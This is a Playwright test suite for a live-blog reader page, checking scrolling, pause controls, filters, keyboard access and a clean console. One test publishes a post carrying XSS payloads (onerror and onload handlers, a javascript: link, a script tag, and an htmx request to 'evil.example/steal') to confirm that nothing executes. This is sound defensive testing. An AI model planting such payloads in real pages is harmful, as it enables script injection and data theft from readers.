"""The reading experience in real Chromium: no jumps, nothing hostile runs, a clean console."""

import pytest
from playwright.sync_api import expect

from tests.helpers import call_as_server, frame_reaching, open_page_reader, publish_from_a_server_thread, publish_post

pytestmark = [
    pytest.mark.browser,
    pytest.mark.postgres,
    pytest.mark.redis,
    pytest.mark.django_db(transaction=True),
]

WATCH_CSP = """
window.__cspViolations = [];
document.addEventListener('securitypolicyviolation',
  e => window.__cspViolations.push(e.violatedDirective + ' ' + e.blockedURI));
"""


def test_a_scrolled_down_reader_gets_a_new_updates_button_and_no_jump(asgi_server, page, blog, reporter):
    for n in range(15):
        publish_from_a_server_thread(blog, reporter, f"Earlier {n}", "<p>" + "Counting continues. " * 40 + "</p>")
    page.set_viewport_size({"width": 1000, "height": 700})
    open_page_reader(page, asgi_server, blog)
    anchor = page.locator("#" + page.locator("#stream .post").nth(8).get_attribute("id"))
    anchor.scroll_into_view_if_needed()
    page.evaluate("window.scrollBy(0, 200)")  # instant: the page has no smooth scrolling
    before = anchor.bounding_box()["y"]

    publish_from_a_server_thread(blog, reporter, "Breaking while you read")
    button = page.locator("#new-updates")
    expect(button).to_be_visible(timeout=3000)
    expect(button).to_have_text("1 new update")
    assert anchor.bounding_box()["y"] == before  # nothing moved under the reader
    expect(page.locator("#live-announcer")).to_contain_text("New update: Breaking while you read")

    button.click()
    fresh = page.locator("#stream .post", has_text="Breaking while you read")
    expect(fresh).to_be_visible()
    expect(fresh).to_be_in_viewport()
    expect(button).to_be_hidden()


def test_a_reader_at_the_top_sees_new_posts_slide_in(asgi_server, page, blog, reporter):
    open_page_reader(page, asgi_server, blog)
    publish_from_a_server_thread(blog, reporter, "Straight in")
    post = page.locator("#stream .post", has_text="Straight in")
    expect(post).to_be_visible(timeout=3000)
    expect(post).to_have_class("post post--arriving")
    expect(page.locator("#new-updates")).to_be_hidden()


def test_pause_holds_updates_and_resuming_catches_up(asgi_server, page, blog, reporter):
    open_page_reader(page, asgi_server, blog)
    page.click("#pause-live")
    expect(page.locator("#pause-live")).to_have_attribute("aria-pressed", "true")
    with frame_reaching(page, "While paused"):
        publish_from_a_server_thread(blog, reporter, "While paused")
    page.evaluate("1")  # a round trip through the page's task queue: the frame's message event has run
    expect(page.locator("#stream")).not_to_contain_text("While paused")
    expect(page.locator("#pause-live")).to_have_text("Resume live updates (1 new update waiting)")
    with frame_reaching(page, "Also while paused"):
        publish_from_a_server_thread(blog, reporter, "Also while paused")
    expect(page.locator("#pause-live")).to_have_text("Resume live updates (2 new updates waiting)")
    page.click("#pause-live")
    expect(page.locator("#pause-live")).to_have_text("Pause live updates")
    expect(page.locator("#stream")).to_contain_text("While paused", timeout=3000)


def test_key_events_filter_and_oldest_first_are_remembered(asgi_server, page, blog, reporter):
    publish_from_a_server_thread(blog, reporter, "Key one", is_key_event=True)
    publish_from_a_server_thread(blog, reporter, "Ordinary")
    open_page_reader(page, asgi_server, blog)
    page.check("#key-only")
    expect(page.locator("#stream .post", has_text="Ordinary")).to_be_hidden()
    page.uncheck("#key-only")
    page.check("#oldest-first")
    first = page.locator("#stream .post").first
    assert page.evaluate("getComputedStyle(document.getElementById('stream')).flexDirection") == "column-reverse"
    page.reload()
    expect(page.locator("#oldest-first")).to_be_checked()
    assert first.count() == 1


def test_a_post_carrying_an_xss_payload_executes_nothing(asgi_server, page, blog, reporter):
    dialogs, foreign = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: "127.0.0.1" not in request.url and foreign.append(request.url))
    open_page_reader(page, asgi_server, blog)
    payload = (
        '<p>Results soon <img src="https://evil.example/x.png" onerror="alert(1)"></p>'
        '<a href="javascript:alert(2)">tap</a>'
        '<div hx-get="https://evil.example/steal" hx-trigger="load">load</div>'
        '<svg onload="alert(3)"></svg><script>alert(4)</script>'
        '<p id="pinned" style="position:fixed;inset:0">cover</p>'
    )
    publish_from_a_server_thread(blog, reporter, "Hostile", payload)
    expect(page.locator("#stream")).to_contain_text("Results soon", timeout=3000)
    page.reload()
    expect(page.locator("#stream")).to_contain_text("Results soon")
    page.locator("#stream a", has_text="tap").click()
    page.wait_for_timeout(1000)  # nothing may happen, so there is no event to wait for: a quiet second
    assert dialogs == [] and foreign == []
    assert page.locator("#pinned").count() == 1


def test_reader_pages_have_no_console_errors_and_no_csp_violations(
    asgi_server, browser, blog, night, reporter, results_desk
):
    from demo.night import demo_entry
    from results.models import Contest
    from results.services import result_declare

    blog.elections.add(night["hartlepool-2021"])
    contest = Contest.objects.get(slug="hartlepool")
    spec, entry = demo_entry(contest)
    call_as_server(result_declare, contest=contest, entry=entry, declared_at=spec.declared_at, actor=results_desk,
              expected_version=None)  # fmt: skip
    post = publish_from_a_server_thread(blog, reporter, "Clean page")
    context = browser.new_context()
    context.add_init_script(WATCH_CSP)
    page = context.new_page()
    errors = []
    page.on("console", lambda message: message.type == "error" and errors.append(message.text))
    page.on("pageerror", lambda error: errors.append(str(error)))
    for url in (
        blog.get_absolute_url(),
        post.get_permalink(),
        "/results/hartlepool-2021/",
        "/",
        "/embed/live/hartlepool/",
    ):
        page.goto(f"{asgi_server}{url}", wait_until="networkidle")
        assert page.evaluate("window.__cspViolations") == [], url
    assert errors == []
    context.close()


def test_without_javascript_the_controls_are_out_of_sight_and_the_page_says_to_reload(asgi_server, browser, blog):
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(f"{asgi_server}{blog.get_absolute_url()}")
    for control in ("#reader-controls", "#pause-live", "#card-filter", "#new-updates", "#connection-notice"):
        expect(page.locator(control)).to_be_hidden()
    notice = page.locator("noscript p")  # Playwright's text search passes over <noscript>
    expect(notice).to_be_visible()
    expect(notice).to_contain_text("reload it for the latest")
    context.close()


def test_with_javascript_the_controls_show_and_the_reload_notice_does_not(asgi_server, page, blog):
    open_page_reader(page, asgi_server, blog)
    expect(page.locator("#reader-controls")).to_be_visible()
    expect(page.locator("#pause-live")).to_be_visible()
    expect(page.locator("#card-filter")).to_be_hidden()  # a blog covering no election has no results to filter
    expect(page.locator("noscript p")).to_have_count(0)  # with scripts on, its content is only text


def test_the_key_events_box_waits_out_of_sight_until_the_first_key_event_arrives(asgi_server, page, blog, reporter):
    open_page_reader(page, asgi_server, blog)
    box = page.locator("nav.key-events")
    expect(box).to_be_hidden()
    publish_from_a_server_thread(blog, reporter, "An ordinary update")
    expect(page.locator("#stream")).to_contain_text("An ordinary update")
    expect(box).to_be_hidden()
    call_as_server(publish_post, blog, reporter, headline="Turnout is 42%", is_key_event=True)
    expect(box).to_be_visible(timeout=3000)
    expect(box.locator("li")).to_have_count(1)
    expect(box).to_contain_text("Turnout is 42%")


def test_a_keyboard_reader_deep_in_the_stream_reaches_new_updates_with_n(asgi_server, page, blog, reporter):
    for n in range(15):
        publish_from_a_server_thread(blog, reporter, f"Earlier {n}", "<p>" + "Counting continues. " * 40 + "</p>")
    page.set_viewport_size({"width": 1000, "height": 700})
    open_page_reader(page, asgi_server, blog)
    page.locator("#stream .post").nth(8).locator("button").first.focus()  # Copy link, deep in the stream
    publish_from_a_server_thread(blog, reporter, "Breaking while you read")
    expect(page.locator("#new-updates")).to_be_visible(timeout=3000)
    expect(page.locator("#live-announcer")).to_contain_text("(press N to read it)")
    page.keyboard.press("n")
    newest = page.locator("#stream .post", has_text="Breaking while you read")
    expect(newest).to_be_focused()
    expect(newest).to_be_in_viewport()
    expect(page.locator("#new-updates")).to_be_hidden()


def test_n_typed_into_a_control_is_only_a_letter(asgi_server, page, blog, reporter):
    for n in range(15):
        publish_from_a_server_thread(blog, reporter, f"Earlier {n}", "<p>" + "Counting continues. " * 40 + "</p>")
    page.set_viewport_size({"width": 1000, "height": 700})
    open_page_reader(page, asgi_server, blog)
    page.evaluate("window.scrollTo(0, document.body.scrollHeight / 2)")
    publish_from_a_server_thread(blog, reporter, "Breaking while you read")
    expect(page.locator("#new-updates")).to_be_visible(timeout=3000)
    page.evaluate(
        "document.getElementById('key-only').focus({preventScroll: true})"
    )  # scrolled to the top, it would reveal them
    page.keyboard.press("n")
    expect(page.locator("#new-updates")).to_be_visible()
    expect(page.locator("#key-only")).to_be_focused()
